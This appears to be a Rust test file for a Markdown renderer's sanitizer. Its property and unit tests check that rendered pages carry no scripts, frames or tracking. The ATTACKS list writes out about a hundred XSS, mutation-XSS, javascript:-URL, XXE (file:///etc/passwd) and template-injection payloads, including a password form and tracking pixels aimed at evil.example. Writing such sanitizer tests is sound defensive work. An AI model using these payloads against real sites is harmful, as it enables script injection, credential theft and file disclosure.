//! No markup, attribute or address gets into a page but those a chapter may have.

use proptest::prelude::*;
use quire_prose::{diff, diff_html, plain, render, small, words};

use crate::page::{Page, read};

/// Attempts at running a script, framing a page or counting readers.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "a <script>alert(1)</script> b",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "text <img/src=`x`/onerror=alert(1)> text",
    "<svg/onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x></a></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mi//xlink:href=\"javascript:alert(1)\">x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=p type=password></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "</p></article></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1) id=b-00000000>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3E;",
    "&amp;lt;script&amp;gt;",
    "&#0;&#1;&#xb;&#xFFFE;&#xFFFF;&#xD800;&#x110000;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#x20;javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\u{a0}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:alert(1))",
    "[x](blob:https://example.com/x)",
    "[x](filesystem:https://example.com/x)",
    "[x](feed:javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<JAVASCRIPT:alert(1)@example.com>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][y]\n\n[y]: <java\u{0}script:alert(1)> \"t\"",
    "[x](https://example.com/\"onmouseover=\"alert(1))",
    "[x](<https://example.com/\" onmouseover=\"alert(1)>)",
    "[x](https://example.com/'><script>alert(1)</script>)",
    "[x](https://example.com \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://example.com '\"><img src=x onerror=alert(1)>')",
    "[x](https://example.com (a &quot; onfocus=alert(1) autofocus=&quot;))",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[a [b](https://b.example) c](https://a.example)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x\" onerror=\"alert(1)](/media/x)",
    "![<b>x</b>](/media/x \"\\\"onload=alert(1)\")",
    "![count me](https://evil.example/pixel.gif)",
    "![count me](//evil.example/pixel.gif)",
    "![count me](/\\evil.example/pixel.gif)",
    "![count me](/&#9;/evil.example/pixel.gif)",
    "![do it](/logout)",
    "![do it](/media/../logout)",
    "![](javascript:alert(1))",
    "![a ![b](javascript:x) c](/media/x)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[![x](https://evil.example/x.gif)](https://example.com)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "|<script>|\"onclick=x|\n|:-:|-:|\n|</td></table><script>|<img src=x onerror=alert(1)>|",
    "[^\"onload=x]\n\n[^\"onload=x]: <script>alert(1)</script>",
    "[^1]\n\n> [^1]: in a quote[^2]\n\n[^2]: [^1] [^2]",
    "x[^a]\n\n[^a]: one\n\n[^A]: two\n\n[^b]: three",
    "[link [^1]](https://example.com)\n\n[^1]: note",
    "![alt [^1]](/media/x)\n\n[^1]: note",
    "# <script> {#id .class onclick=x}",
    "999999999. start",
    "- <div>\n  <p onclick=x>\n- </div>",
    "> <script>\n> alert(1)\n\n</script>",
    "\u{202e}<script>\u{202c}",
    "<a href=\"x\"\u{0}onclick=alert(1)>",
    "\u{feff}<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
];

#[test]
fn no_attack_gets_through() {
    for attack in ATTACKS {
        read(attack);
        for around in ["*", "> ", "- ", "# ", "[", "![", "| ", "a\n", "<p>\n\n"] {
            read(&format!("{around}{attack}"));
        }
        Page::read(
            &diff_html(&diff("", attack))
                .replace("<ins>", "<em>")
                .replace("</ins>", "</em>"),
            false,
        );
    }
    read(&ATTACKS.join("\n\n"));
    read(&ATTACKS.concat());
}

#[test]
fn html_is_shown_as_the_author_typed_it() {
    for typed in [
        "<b>not bold</b>",
        "a <br> b",
        "<div>\nblock\n</div>",
        "<!-- said aside -->",
        "a & b &",
    ] {
        assert_eq!(plain(typed), typed);
        assert_eq!(read(typed).text.trim_end(), typed);
    }
}

#[test]
fn a_refused_address_leaves_its_text() {
    let page = read("[claim](javascript:x) ![scene](data:x) ![map](https://a.example/m.png)");
    assert_eq!(page.text, "claim scene map");
    assert_eq!(page.links, ["https://a.example/m.png"]);
    assert!(page.images.is_empty());
}

#[test]
fn every_construct_has_its_element() {
    // Ids as the numbers of their blocks.
    let html = |markdown: &str| {
        let blocks = render(markdown, &[]);
        let html: Vec<&str> = blocks.iter().map(|block| block.html.as_str()).collect();
        let numbered = blocks.iter().enumerate();
        numbered.fold(html.join("\n"), |html, (number, block)| {
            html.replace(&block.bid.to_string(), &number.to_string())
        })
    };
    assert_eq!(
        html("# A\n\n###### F\n\n*a* **b** ~~c~~ `d` \"q\" -- ...\n\n***\n\n```x\n<y>\n```"),
        "<h2 id=\"b-0\">A</h2>\n<h6 id=\"b-1\">F</h6>\n\
         <p id=\"b-2\"><em>a</em> <strong>b</strong> <del>c</del> <code>d</code> \"q\" -- ...</p>\n\
         <hr id=\"b-3\">\n<pre id=\"b-4\"><code>&lt;y&gt;\n</code></pre>"
    );
    assert_eq!(
        html("> a\n>\n> b\n\n3. c\n4. d\n   - e\n"),
        "<blockquote id=\"b-0\"><p>a</p>\n<p>b</p>\n</blockquote>\n\
         <ol id=\"b-1\" start=\"3\"><li>c</li>\n<li>d\n<ul><li>e</li>\n</ul></li></ol>"
    );
    assert_eq!(
        html("|a|b|\n|:-|-|\n|c|d|"),
        "<table id=\"b-0\"><thead><tr><th class=\"align-left\">a</th>\n<th>b</th>\n</tr></thead><tbody>\
         <tr><td class=\"align-left\">c</td>\n<td>d</td>\n</tr></tbody></table>"
    );
    assert_eq!(
        html("a[^x] b[^x]\n\n[^x]: note"),
        "<p id=\"b-0\">a<sup class=\"footnote-ref\"><a id=\"r-1\" href=\"#b-1\" role=\"doc-noteref\">1</a></sup> \
         b<sup class=\"footnote-ref\"><a id=\"r-1-2\" href=\"#b-1\" role=\"doc-noteref\">1</a></sup></p>\n\
         <div id=\"b-1\" class=\"footnote\" role=\"doc-footnote\"><span class=\"footnote-number\">\
         <a href=\"#r-1\" role=\"doc-backlink\">1</a></span><p>note</p>\n</div>"
    );
    assert_eq!(
        html("<me@example.com> ![m](/media/m \"t\")"),
        "<p id=\"b-0\"><a href=\"mailto:me@example.com\" rel=\"nofollow ugc noopener\">me@example.com</a> \
         <img src=\"/media/m\" alt=\"m\" title=\"t\" loading=\"lazy\"></p>"
    );
}

/// Markdown in pieces that mean something.
fn markdown() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => "[a-zé ]{0,12}",
        3 => prop::sample::select(vec![
            "*", "**", "_", "~~", "`", "```\n", "> ", "- ", "1. ", "# ", "|", "|-|-|\n", "\n", "\n\n",
            "  \n", "\\", "[", "](", ")", "![", "<", ">", "&", "&#", ";", "\"", "'", "***\n", "[^1]",
            "\n\n[^1]: ", "[a]: ", "https://x.example", "javascript:", "/media/", "<b>", "</b>", "<!--",
            "-->", "    ", "\t", "\r\n", "\0", "\u{ffff}", "東", "---\n", "===\n",
        ]).prop_map(Into::into),
        1 => prop::sample::select(ATTACKS).prop_map(Into::into),
        1 => any::<char>().prop_map(Into::into),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces: Vec<String>| pieces.concat())
}

proptest! {
    #[test]
    fn whatever_is_written_the_page_is_safe(text in markdown()) {
        read(&text);
        small(&text);
        words(&text);
    }

    #[test]
    fn whatever_characters_are_written_the_page_is_safe(text in any::<String>()) {
        read(&text);
    }

    #[test]
    fn plain_words_come_through_unchanged(lines in prop::collection::vec("[a-zA-Zéß東’“”—…,;?]{1,12}", 1..20)) {
        let text = lines.join("\n\n");
        prop_assert_eq!(plain(&text), lines.join("\n"));
    }
}
